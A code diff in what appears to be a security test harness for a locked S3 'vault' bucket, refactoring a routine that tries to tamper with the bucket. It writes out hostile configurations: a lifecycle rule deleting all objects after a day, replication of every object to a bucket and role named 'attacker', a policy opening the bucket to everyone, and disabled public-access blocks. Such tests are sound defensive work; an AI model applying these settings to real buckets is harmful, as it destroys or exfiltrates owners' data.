@@ -52,20 +52,33 @@ def r2_undo_the_lock(s3: Any, vault: Vault) -> Calls:
     return calls
 
 
-def r4_change_the_bucket(s3: Any, vault: Vault) -> Calls:
-    bucket = vault.bucket
-    expire = {
-        "Rules": [
-            {
-                "ID": "gone",
-                "Status": "Enabled",
-                "Filter": {"Prefix": ""},
-                "Expiration": {"Days": 1},
-                "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
-            }
-        ]
-    }
-    open_to_all = {
+EXPIRE_TOMORROW = {
+    "Rules": [
+        {
+            "ID": "gone",
+            "Status": "Enabled",
+            "Filter": {"Prefix": ""},
+            "Expiration": {"Days": 1},
+            "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
+        }
+    ]
+}
+REPLICATE_ELSEWHERE = {
+    "Role": "arn:aws:iam::000000000000:role/attacker",
+    "Rules": [
+        {
+            "Status": "Enabled",
+            "Priority": 1,
+            "Filter": {"Prefix": ""},
+            "DeleteMarkerReplication": {"Status": "Disabled"},
+            "Destination": {"Bucket": "arn:aws:s3:::attacker"},
+        }
+    ],
+}
+
+
+def _open_to_all(bucket: str) -> dict[str, Any]:
+    return {
         "Version": "2012-10-17",
         "Statement": [
             {
@@ -76,20 +89,12 @@ def r4_change_the_bucket(s3: Any, vault: Vault) -> Calls:
             }
         ],
     }
+
+
+def r4_change_the_bucket(s3: Any, vault: Vault) -> Calls:
+    bucket = vault.bucket
     lock = {"ObjectLockEnabled": "Enabled"}
     lock_short = {**lock, "Rule": {"DefaultRetention": {"Mode": "GOVERNANCE", "Days": 2}}}
-    replicate = {
-        "Role": "arn:aws:iam::000000000000:role/attacker",
-        "Rules": [
-            {
-                "Status": "Enabled",
-                "Priority": 1,
-                "Filter": {"Prefix": ""},
-                "DeleteMarkerReplication": {"Status": "Disabled"},
-                "Destination": {"Bucket": "arn:aws:s3:::attacker"},
-            }
-        ],
-    }
     encrypt = {"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]}
     closed = dict.fromkeys(
         ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), False
@@ -100,7 +105,7 @@ def r4_change_the_bucket(s3: Any, vault: Vault) -> Calls:
         ),
         "no lifecycle": lambda: s3.delete_bucket_lifecycle(Bucket=bucket),
         "lifecycle": lambda: s3.put_bucket_lifecycle_configuration(
-            Bucket=bucket, LifecycleConfiguration=expire
+            Bucket=bucket, LifecycleConfiguration=EXPIRE_TOMORROW
         ),
         "lock without a default": lambda: s3.put_object_lock_configuration(
             Bucket=bucket, ObjectLockConfiguration=lock
@@ -109,9 +114,11 @@ def r4_change_the_bucket(s3: Any, vault: Vault) -> Calls:
             Bucket=bucket, ObjectLockConfiguration=lock_short
         ),
         "no policy": lambda: s3.delete_bucket_policy(Bucket=bucket),
-        "policy": lambda: s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(open_to_all)),
+        "policy": lambda: s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(_open_to_all(bucket))),
         "no replication": lambda: s3.delete_bucket_replication(Bucket=bucket),
-        "replication": lambda: s3.put_bucket_replication(Bucket=bucket, ReplicationConfiguration=replicate),
+        "replication": lambda: s3.put_bucket_replication(
+            Bucket=bucket, ReplicationConfiguration=REPLICATE_ELSEWHERE
+        ),
         "no encryption": lambda: s3.delete_bucket_encryption(Bucket=bucket),
         "encryption": lambda: s3.put_bucket_encryption(
             Bucket=bucket, ServerSideEncryptionConfiguration=encrypt
